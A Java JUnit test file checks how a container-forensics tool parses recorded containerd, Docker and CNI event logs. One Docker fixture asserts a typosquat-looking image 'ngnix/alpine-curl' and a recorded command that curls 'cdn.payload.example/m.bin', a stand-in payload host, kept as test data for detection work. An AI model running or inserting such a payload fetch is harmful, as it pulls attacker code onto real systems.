package io.tallyman.source.containerd;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.Shared;
import io.tallyman.event.AddressAssigned;
import io.tallyman.event.ContainerCreated;
import io.tallyman.event.ContainerKind;
import io.tallyman.event.ContainerObserved;
import io.tallyman.event.ContainerProcessStarted;
import io.tallyman.event.ContainerStarted;
import io.tallyman.event.ContainerStopped;
import io.tallyman.event.Event;
import io.tallyman.event.ImageNamed;
import io.tallyman.event.ImagePulled;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.event.SnapshotPrepared;
import io.tallyman.source.Parsed;
import io.tallyman.source.Reading;
import io.tallyman.source.Source;
import io.tallyman.source.cni.CniResults;
import io.tallyman.source.cni.MultusLog;
import io.tallyman.source.docker.DockerEventsJson;
import io.tallyman.source.docker.DockerEventsText;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The recordings of real runtimes, read whole. */
class RuntimeCapturesTest {

    private static final List<Source> SOURCES = List.of(
            new ContainerdEventsText(),
            new ContainerdEventsJson(),
            new RuntimeLogText(),
            new RuntimeLogJson(),
            new DockerEventsText(),
            new DockerEventsJson(),
            new CniResults(),
            new MultusLog());

    private static String[] capture(String name) {
        return Parsed.lines(Shared.path("captures/" + name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"A", "B", "C", "E", "G", "K"})
    void textAndJsonOfOneRunTellTheSame(String run) {
        var text = Parsed.events(new ContainerdEventsText(), capture(run + "/containerd-events.txt"));
        assertThat(text)
                .isNotEmpty()
                .isEqualTo(Parsed.events(new ContainerdEventsJson(), capture(run + "/containerd-events.json")));
    }

    @ParameterizedTest
    @CsvSource({
        "A/containerd-events.txt,  ContainerdEventsText",
        "A/containerd-events.json, ContainerdEventsJson",
        "G/docker-events.json,     DockerEventsJson",
        "C/cni-results.jsonl,      CniResults",
        "K/kubernetes-events.json, ''",
        "K/kubernetes-audit.log,   ''",
        "A/flows-zeeklike.jsonl,   ''",
        "A/audit.log,              ''"
    })
    void exactlyOneSourceRecognisesARecording(String name, String expected) {
        var sample = capture(name);
        assertThat(SOURCES.stream()
                        .filter(source -> Parsed.recognises(source, sample))
                        .map(source -> source.getClass().getSimpleName())
                        .collect(Collectors.joining(",")))
                .isEqualTo(expected);
    }

    @Test
    void aClustersRunNamesEveryContainerAndItsProcesses() {
        var events = Parsed.events(new ContainerdEventsText(), capture("K/containerd-events.txt"));
        assertThat(count(events))
                .isEqualTo(Map.of(
                        ImageNamed.class, 4L,
                        SnapshotPrepared.class, 4L,
                        ContainerCreated.class, 4L,
                        ContainerObserved.class, 4L,
                        ContainerStarted.class, 4L,
                        ContainerProcessStarted.class, 13L,
                        ContainerStopped.class, 10L));
        assertThat(events.stream()
                        .filter(ContainerObserved.class::isInstance)
                        .map(ContainerObserved.class::cast)
                        .filter(observed -> observed.kind() == ContainerKind.SANDBOX)
                        .map(observed -> observed.reported().pod().namespace() + "/"
                                + observed.reported().pod().name())
                        .distinct())
                .containsExactly("shop/web", "payments/report");
        assertThat(events.stream()
                        .filter(ContainerStarted.class::isInstance)
                        .map(event -> ((ContainerStarted) event).pid()))
                .containsExactly(23007L, 23045L, 23120L, 23152L);
    }

    @Test
    void dockersRunNamesImageContainerAndCommand() {
        var events = Parsed.events(new DockerEventsJson(), capture("G/docker-events.json"));
        assertThat(count(events))
                .isEqualTo(Map.of(
                        ImagePulled.class, 1L,
                        ContainerCreated.class, 1L,
                        ContainerStarted.class, 1L,
                        ProcessExecuted.class, 1L,
                        ContainerStopped.class, 2L));
        assertThat(events.get(0))
                .isInstanceOfSatisfying(
                        ImagePulled.class, pulled -> assertThat(pulled.image()).isEqualTo("ngnix/alpine-curl:latest"));
        assertThat(events.get(3)).isInstanceOfSatisfying(ProcessExecuted.class, executed -> {
            assertThat(executed.arguments())
                    .containsExactly("sh", "-c", "curl -s -o /dev/null http://cdn.payload.example/m.bin");
            assertThat(executed.reported().id()).startsWith("da3d3d791f63");
            assertThat(executed.reported().name()).isEqualTo("shop");
        });
    }

    @ParameterizedTest
    @CsvSource({"A, web-a1, 10.88.0.2", "B, ledger-b1, 10.88.0.3", "C, idle-c1, 10.88.0.5", "E, rpt-e1, 10.88.0.8"})
    void aPluginsResultGivesTheContainersAddress(String run, String container, String address) {
        assertThat(Parsed.event(new CniResults(), capture(run + "/cni-results.jsonl")))
                .isInstanceOfSatisfying(AddressAssigned.class, assigned -> {
                    assertThat(assigned.reported().id()).isEqualTo(container);
                    assertThat(assigned.addresses()).containsExactly(address);
                });
    }

    @Test
    void googlesWrapperOfTheJournalIsRead() {
        var folder = "corpus/unwrapped/01-containerd-events/GoogleCloudPlatform__khi__";
        var events = Parsed.events(
                new RuntimeLogJson(),
                Parsed.lines(Shared.path(folder + "containerd_run_pod_sandbox.yaml.jsonl"))[0],
                Parsed.lines(Shared.path(folder + "containerd_create_container.yaml.jsonl"))[0],
                Parsed.lines(Shared.path(folder + "kubelet_pod_and_container_name.yaml.jsonl"))[0]);
        assertThat(events).hasSize(2);
        assertThat(events.get(1)).isInstanceOfSatisfying(ContainerCreated.class, created -> {
            assertThat(created.reported().name()).isEqualTo("kubedns");
            assertThat(created.reported().pod().name()).isEqualTo("kube-dns-58f547fd74-swzzt");
            assertThat(created.origin().cluster()).isEqualTo("sample-cluster");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "docker__cli/docker-events-default.golden",
                "docker__cli/docker-events-json.golden",
                "docker__cli/docker-events-json-template.golden",
                "_index_only/containerd__nerdctl__issue-2856-docker-counterpart.jsonl"
            })
    void publicDockerEventsAreReadWhole(String name) {
        var lines = Parsed.lines(Shared.path("corpus/02-docker-events/" + name));
        var source = SOURCES.stream()
                .filter(candidate -> Parsed.recognises(candidate, lines))
                .findFirst()
                .orElseThrow();
        assertThat(source.logSource()).isEqualTo("docker:events");
        assertThat(Parsed.readings(source, lines)).hasSize(lines.length).noneMatch(Reading.Rejected.class::isInstance);
    }

    private static Map<Class<?>, Long> count(List<Event> events) {
        return events.stream()
                .map(Object::getClass)
                .collect(Collectors.groupingBy(Function.identity(), Collectors.counting()));
    }
}
